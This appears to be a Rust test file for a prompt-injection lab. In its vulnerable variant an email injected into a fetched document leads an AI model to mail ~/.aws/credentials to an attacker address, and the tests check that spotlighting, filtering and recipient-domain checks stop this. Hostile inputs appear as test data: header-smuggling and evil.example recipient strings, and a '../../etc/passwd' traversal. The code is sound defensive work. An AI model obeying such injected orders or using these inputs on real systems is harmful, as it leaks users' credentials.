use super::*;
use crate::Variant;
use crate::{
    agent::reading,
    labs::testing::{exploit_against, listed_tool},
};

fn detector() -> InjectionGuard {
    match InjectionGuard::new() {
        Ok(guard) => guard,
        Err(e) => panic!("belay-guard's rules do not compile: {e}"),
    }
}

#[tokio::test]
async fn the_exploit_mails_the_credentials_from_the_vulnerable_server() {
    let report = exploit_against(LabName::Xpia, Variant::Vulnerable).await;
    assert!(report.succeeded, "{report:#?}");
    assert!(
        report.summary.contains("~/.aws/credentials"),
        "{}",
        report.summary
    );
    assert!(report.summary.contains(ATTACKER), "{}", report.summary);
    assert_eq!(report.steps.len(), 2, "{report:#?}");
    assert_eq!(report.steps[1].tool, "send_email");
    assert!(report.steps[1].because.contains("fetch_document"));
}

#[tokio::test]
async fn the_exploit_fails_against_the_fixed_twin() {
    let report = exploit_against(LabName::Xpia, Variant::Fixed).await;
    assert!(!report.succeeded, "{report:#?}");
    // The assistant read the e-mail (the user's task worked) and made no other call.
    assert_eq!(report.steps.len(), 1, "{report:#?}");
    let text = report.steps[0].answer.text().unwrap_or_default();
    assert!(text.contains("Priya"), "{text}");
    assert!(
        report
            .stopped_by
            .as_deref()
            .is_some_and(|s| s.starts_with("spotlighting and filtering")),
        "{report:#?}"
    );
}

#[test]
fn the_gateway_detector_flags_the_injected_email() {
    let report = detector().scan(NORTHWIND_EMAIL);
    assert!(
        report.score >= DEFAULT_THRESHOLD,
        "score {} below {DEFAULT_THRESHOLD}: {:#?}",
        report.score,
        report.findings
    );
}

#[test]
fn the_harmless_documents_are_not_flagged() {
    let guard = detector();
    for (name, text) in DOCUMENTS.iter().filter(|(n, _)| *n != INJECTED) {
        let report = guard.scan(text);
        assert!(report.score < DEFAULT_THRESHOLD, "{name}: {report:#?}");
        // Spotlighted, but nothing removed.
        let served = untrusted(&guard, text);
        assert!(!served.contains("[removed"), "{served}");
        assert!(served.contains("Acme"), "{served}");
    }
}

/// The fixed twin's layers each hold on their own: the filter alone leaves nothing to
/// obey (read as if a model ignored the spotlight), and the domain check alone refuses
/// the attacker's address.
#[tokio::test]
async fn the_filter_alone_removes_the_order() {
    let guard = detector();
    let report = guard.scan(NORTHWIND_EMAIL);
    let filtered = guard.redact(NORTHWIND_EMAIL, &report);
    assert!(filtered.contains("Thanks for the call"), "{filtered}");
    // The whole order went, not a piece cut at a dot inside the address or the path.
    assert!(
        !filtered.contains(ATTACKER) && !filtered.contains(".aws/credentials"),
        "{filtered}"
    );
    let tools = [
        listed_tool(LabName::Xpia, Variant::Vulnerable, "fetch_document").await,
        listed_tool(LabName::Xpia, Variant::Vulnerable, "send_email").await,
    ];
    assert!(
        !reading::read(NORTHWIND_EMAIL, &tools, None).is_empty(),
        "the unfiltered e-mail must hold an order, or this test proves nothing"
    );
    let left = reading::read(&filtered, &tools, None);
    assert!(left.is_empty(), "{left:#?}\n{filtered}");
}

#[test]
fn send_email_only_sends_to_one_address_at_the_users_domain() {
    assert_eq!(own_domain(USER), Ok(()));
    assert_eq!(own_domain(" Finance.Team+q1@ACME.example "), Ok(()));
    for to in [
        ATTACKER,
        "dana@acme.example.northwind-billing.example",
        "dana@evil.example@acme.example",
        "evil@evil.example, dana@acme.example",
        "Dana <dana@acme.example>",
        "dana@acme.example\nBcc: evil@evil.example",
        "dana%evil.example@acme.example\u{0}",
        "@acme.example",
        ".dana@acme.example",
        "acme.example",
        "",
    ] {
        assert!(own_domain(to).is_err(), "{to:?} was accepted");
    }
    let huge = format!("{}@acme.example", "a".repeat(10_000));
    assert!(own_domain(&huge).is_err_and(|e| e.contains("254")));
}

#[tokio::test]
async fn the_fixed_send_email_refuses_outsiders_and_huge_mail() -> Result<(), String> {
    let server = Fixed::new().map_err(|e| e.to_string())?;
    let send = |to: &str, body: String| SendArgs {
        to: to.to_owned(),
        subject: None,
        body,
    };
    let leaked = world::FILES[1].contents.to_owned();
    let refused = server
        .send_email(Parameters(send(ATTACKER, leaked.clone())))
        .await;
    assert_eq!(refused.is_error, Some(true));
    let huge = server
        .send_email(Parameters(send(USER, "x".repeat(MAX_BODY + 1))))
        .await;
    assert_eq!(huge.is_error, Some(true));
    let sent = server
        .send_email(Parameters(send(USER, "See you Friday.".into())))
        .await;
    assert_eq!(sent.is_error, Some(false), "{sent:?}");
    Ok(())
}

#[tokio::test]
async fn unknown_or_oversized_document_names_are_clear_errors() -> Result<(), String> {
    let server = Fixed::new().map_err(|e| e.to_string())?;
    for name in [
        "../../etc/passwd",
        "",
        "NORTHWIND-EMAIL",
        &"n".repeat(100_000),
    ] {
        for result in [
            server
                .fetch_document(Parameters(FetchArgs { name: name.into() }))
                .await,
            Vulnerable::new()
                .fetch_document(Parameters(FetchArgs { name: name.into() }))
                .await,
        ] {
            assert_eq!(result.is_error, Some(true), "{name:.40}");
            let said = result.content[0].as_text().map(|t| t.text.len());
            assert!(said.is_some_and(|n| n < 400), "{name:.40}: {said:?}");
        }
    }
    Ok(())
}

#[tokio::test]
async fn the_fixed_twin_refuses_arguments_it_does_not_define() {
    let send = listed_tool(LabName::Xpia, Variant::Fixed, "send_email").await;
    assert_eq!(
        send.input_schema.get("additionalProperties"),
        Some(&Value::Bool(false))
    );
}

#[test]
fn a_send_email_to_the_users_domain_is_not_counted_as_exfiltration() {
    let fetched = Step {
        tool: "fetch_document".into(),
        arguments: Default::default(),
        because: String::new(),
        answer: Answer::Answered {
            text: "hello".into(),
            is_error: false,
        },
    };
    let mut to_colleague = fetched.clone();
    to_colleague.tool = "lab__send_email".into();
    to_colleague.arguments = json!({"to": USER, "body": world::FILES[0].contents})
        .as_object()
        .cloned()
        .unwrap_or_default();
    let report = judge(&fetched, vec![fetched.clone(), to_colleague.clone()]);
    assert!(!report.succeeded);
    let mut to_attacker = to_colleague;
    to_attacker.arguments.insert("to".into(), json!(ATTACKER));
    let report = judge(&fetched, vec![fetched.clone(), to_attacker]);
    assert!(report.succeeded, "{report:#?}");
}
